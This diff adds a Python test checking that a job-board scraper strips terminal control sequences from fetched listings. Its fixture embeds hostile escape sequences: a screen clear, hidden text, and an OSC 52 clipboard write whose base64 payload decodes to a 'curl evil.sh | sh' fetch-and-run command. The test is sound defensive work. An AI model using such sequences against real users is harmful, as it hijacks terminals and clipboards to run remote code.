@@ -68,3 +68,22 @@ def test_wrong_types_on_every_kind_never_crash(board_home: Path, loopback: Loopb
     result = discover(ws)
     ws.close()
     assert [(s.created, s.invalid, s.error) for s in result.sources] == [(0, 7, None)] * 4
+
+
+def test_terminal_control_sequences_from_a_board_never_reach_the_store(board_home: Path, loopback: Loopback) -> None:
+    """An ESC in a title would let a board retitle, clear or write the clipboard of the user's terminal."""
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
+    jobs = [_job(1, f"Engineer{osc52}\x1b[2J", location={"name": "Berlin\x9b31m"},
+                 content=f"&lt;p&gt;Go{osc52} and\tKubernetes&lt;/p&gt;\x1b[8m",
+                 absolute_url="https://boards.greenhouse.io/evil/jobs/1\x1b[0m")]
+    loopback.json("/v1/boards/evil/jobs", {"jobs": jobs})
+    add_sources(board_home, ("greenhouse", "evil"))
+    ws = open_workspace(board_home)
+    discover(ws)
+    [job] = ws.store.list_dicts()
+    ws.close()
+    for key in ("title", "location", "jobDescription"):
+        assert not any(ord(c) < 32 and c not in "\n\t" or 0x7F <= ord(c) <= 0x9F for c in job[key]), key
+    assert job["title"].startswith("Engineer") and job["location"].startswith("Berlin")
+    assert "Go" in job["jobDescription"] and "Kubernetes" in job["jobDescription"]
+    assert job["jobUrl"] is None
